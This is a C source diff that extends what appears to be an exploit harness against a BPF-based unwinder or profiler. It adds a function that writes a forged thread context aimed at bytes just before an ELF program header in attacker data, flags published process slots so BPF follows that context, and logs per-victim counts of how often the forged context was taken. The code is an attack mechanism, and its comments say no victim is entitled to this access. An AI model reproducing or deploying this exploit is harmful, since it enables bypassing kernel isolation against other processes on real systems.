@@ -11,8 +11,10 @@
  *   W phase victim hex	     32 bits as the place of an instruction in a list
  *   T phase victim hex	     a word of told code
  *   R phase victim result samples
+ *   X phase victim looked taken	     samples whose context BPF was led to, and that came out
  *   C name count from to    records of the control process between two moments
  */
+#include <elf.h>
 #include <errno.h>
 #include <inttypes.h>
 #include <poll.h>
@@ -68,6 +70,7 @@ static const char *phase;
 static uint64_t begun, controls, shown;
 static struct {
 	uint64_t generation, version, lists, listed, told, results[RESULTS];
+	uint64_t looked, contexts; /* of threads */
 	struct map *seen;
 } got[VICTIMS];
 
@@ -111,6 +114,19 @@ static uint64_t last_of_page(const struct victim *victim)
 	return page - 8;
 }
 
+/*
+ * Leads BPF to a context, behind the entries: the 24 bytes before a program header, of which some
+ * begin with a 1. No victim has a grant for that.
+ */
+static void lead_context(uint32_t word, uint32_t number)
+{
+	const uint64_t header =
+		attack.data + sizeof(Elf64_Ehdr) + got[number].version % 8 * sizeof(Elf64_Phdr);
+	const struct thread_context context = {.root = {.start = RUNTIME_AT_PC, .pc = header - 24}};
+
+	memcpy(at(word), &context, sizeof(context));
+}
+
 /* Publishes two mappings: the leaf, whose caller ends the stack, and all else. */
 static void publish(uint32_t number, uint64_t slot, const struct runtime_config *config)
 {
@@ -137,8 +153,11 @@ static void publish(uint32_t number, uint64_t slot, const struct runtime_config 
 		put64(plan + BLOCK_AT + 2 * i, edge[i]);
 		memcpy(at(plan + BLOCK_AT + 16 * (i + 1)), &entry, sizeof(entry));
 	}
+	lead_context(plan + BLOCK_AT + 16 * 4, number);
 	__atomic_store_n(&place->block,
-			 process_slot_block(plan + BLOCK_AT, 3, ++got[number].version & 0x3ffffff),
+			 process_slot_block(plan + BLOCK_AT, 3,
+					    ++got[number].version & PROCESS_SLOT_VERSION_MAX) |
+				 PROCESS_SLOT_CONTEXT,
 			 __ATOMIC_SEQ_CST);
 	__atomic_store_n(&place->key, process_slot_key(victim->pid, got[number].generation),
 			 __ATOMIC_SEQ_CST);
@@ -208,6 +227,8 @@ static void take(const struct record *head, const u64 *frames)
 		return;
 	if (head->runtime < RESULTS)
 		got[number].results[head->runtime]++;
+	got[number].looked += head->context != CONTEXT_NOT_PUBLISHED;
+	got[number].contexts += head->context == CONTEXT_TAKEN;
 	take_words((uint32_t)number, head, frames + head->kernel_frames + head->user_frames);
 }
 
@@ -261,6 +282,7 @@ static void begin(const char *name)
 		map_free(got[i].seen);
 		got[i].seen = map_new();
 		got[i].lists = got[i].listed = got[i].told = 0;
+		got[i].looked = got[i].contexts = 0;
 		memset(got[i].results, 0, sizeof(got[i].results));
 	}
 	begun = time_now();
@@ -302,6 +324,8 @@ static void end(void)
 	for (uint32_t i = 0; i < VICTIMS; i++) {
 		fprintf(stderr, "B %s %u %" PRIu64 " %" PRIu64 " %" PRIu64 " %" PRIu64 "\n", phase,
 			i, got[i].lists, got[i].listed, got[i].told, now - begun);
+		fprintf(stderr, "X %s %u %" PRIu64 " %" PRIu64 "\n", phase, i, got[i].looked,
+			got[i].contexts);
 		for (uint32_t k = 0; k < RESULTS; k++)
 			if (got[i].results[k])
 				fprintf(stderr, "R %s %u %u %" PRIu64 "\n", phase, i, k,
